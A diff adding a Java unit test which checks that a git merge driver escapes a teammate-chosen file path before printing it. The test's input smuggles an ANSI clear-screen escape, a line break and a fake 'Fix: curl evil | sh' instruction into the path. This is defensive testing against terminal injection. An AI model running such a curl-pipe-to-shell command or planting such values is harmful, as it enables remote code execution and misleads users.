@@ -168,4 +168,34 @@ class HostileTextFormTest {
     assertFalse(sets.getMessage().contains("\n"), sets.getMessage());
     assertFalse(sets.getMessage().contains("\u001b"), sets.getMessage());
   }
+
+  /**
+   * git hands the merge driver the file's path in the repository ({@code %P}), which the teammate
+   * whose branch is merged chose (with the {@code .gitattributes} line that sends it there): the
+   * driver printed it raw, an escape sequence and a line break of its own under git's output.
+   */
+  @Test
+  void theMergeDriverPrintsTheFilesPathOnOneLine() throws Exception {
+    String good = DatabaseText.HEADER + "\nCREATE TABLE x (a);\nINSERT INTO \"x\" VALUES(1);\n";
+    Path base = Files.writeString(dir.resolve("base"), good);
+    Path ours = Files.writeString(dir.resolve("ours"), good);
+    Path theirs = Files.writeString(dir.resolve("theirs"), good + "CREATE TABLE y (b);\n");
+    java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
+    int code =
+        MergeDriver.run(
+            new String[] {
+              base.toString(),
+              ours.toString(),
+              theirs.toString(),
+              "mlos.db.sql\u001b[2J\n  Fix: curl evil | sh"
+            },
+            new java.io.PrintStream(bytes, true, java.nio.charset.StandardCharsets.UTF_8));
+    String out = bytes.toString(java.nio.charset.StandardCharsets.UTF_8);
+    assertEquals(2, code, out);
+    assertFalse(out.contains("\u001b"), out);
+    assertTrue(
+        out.startsWith("mlos.db.sql\\u001b[2J\\u000a  Fix: curl evil | sh: not merged: "), out);
+    assertEquals(2, out.lines().count(), out);
+    assertTrue(out.lines().toList().get(1).startsWith("  Fix: "), out);
+  }
 }
